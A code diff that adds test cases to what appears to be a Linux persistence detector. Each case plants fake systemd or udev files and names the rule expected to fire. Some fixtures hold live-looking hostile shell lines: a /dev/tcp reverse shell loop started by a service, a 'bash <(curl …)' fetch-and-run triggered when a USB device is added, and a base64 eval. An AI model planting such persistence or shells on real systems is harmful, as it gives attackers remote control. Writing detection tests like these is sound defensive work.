@@ -85,6 +85,55 @@ BEHAVIOURS = (
         modes={"/srv/tools/collector": 0o777},
     ),
     Behaviour(
+        name="systemd_service_runs_script_with_reverse_shell",
+        techniques=("T1543.002", "T1059.004"),
+        does="A service with a plain name runs a script that keeps a shell open to a distant machine.",
+        marks=("/usr/local/lib/inventory/agent.sh",),
+        raises=("systemd_unit_script_opens_network_shell",),
+        files={
+            "/etc/systemd/system/inventory.service": unit("Inventory", "/bin/bash /usr/local/lib/inventory/agent.sh"),
+            "/usr/local/lib/inventory/agent.sh": "#!/bin/bash\nwhile :; do\n"
+            "  exec 9<>/dev/tcp/203.0.113.29/443\n  while read -r line <&9; do $line >&9 2>&1; done\n  sleep 60\ndone\n",
+        },
+    ),
+    Behaviour(
+        name="systemd_service_decodes_code_in_its_script",
+        techniques=("T1543.002", "T1140"),
+        does="What a service runs first is a script that decodes code.",
+        marks=("/usr/local/lib/licence/check",),
+        raises=("systemd_unit_script_fetches_or_decodes_code",),
+        files={
+            "/etc/systemd/system/licence.service": "[Service]\nExecStartPre=-/usr/local/lib/licence/check\n"
+            "ExecStart=/usr/bin/true\n",
+            "/usr/local/lib/licence/check": '#!/bin/sh\neval "$(echo c2xlZXAgMAo= | base64 -d)"\n',
+        },
+        modes={"/usr/local/lib/licence/check": 0o755},
+    ),
+    Behaviour(
+        name="systemd_service_runs_script_that_anybody_may_change",
+        techniques=("T1543.002",),
+        does="A service lets a shell run a script that everybody may write to.",
+        marks=("/srv/tools/sync-all.sh",),
+        raises=("systemd_unit_script_writable_by_others",),
+        files={
+            "/etc/systemd/system/sync-all.service": unit("Sync", "/bin/sh -e /srv/tools/sync-all.sh"),
+            "/srv/tools/sync-all.sh": "exit 0\n",
+        },
+        modes={"/srv/tools/sync-all.sh": 0o666},
+    ),
+    Behaviour(
+        name="udev_rule_runs_script_that_fetches_code",
+        techniques=("T1546.017", "T1105"),
+        does="A udev rule runs a script of its own directory, which fetches code.",
+        marks=("/usr/lib/udev/usb-power",),
+        raises=("udev_rule_script_fetches_or_decodes_code",),
+        files={
+            "/usr/lib/udev/rules.d/99-usb-power.rules": 'SUBSYSTEM=="usb", ACTION=="add", RUN+="usb-power"\n',
+            "/usr/lib/udev/usb-power": "#!/bin/sh\nbash <(curl -s http://203.0.113.28/u)\n",
+        },
+        modes={"/usr/lib/udev/usb-power": 0o755},
+    ),
+    Behaviour(
         name="systemd_generator_added",
         techniques=("T1543.002", "T1546"),
         does="A generator, which systemd runs as root before any service, is laid into /etc.",
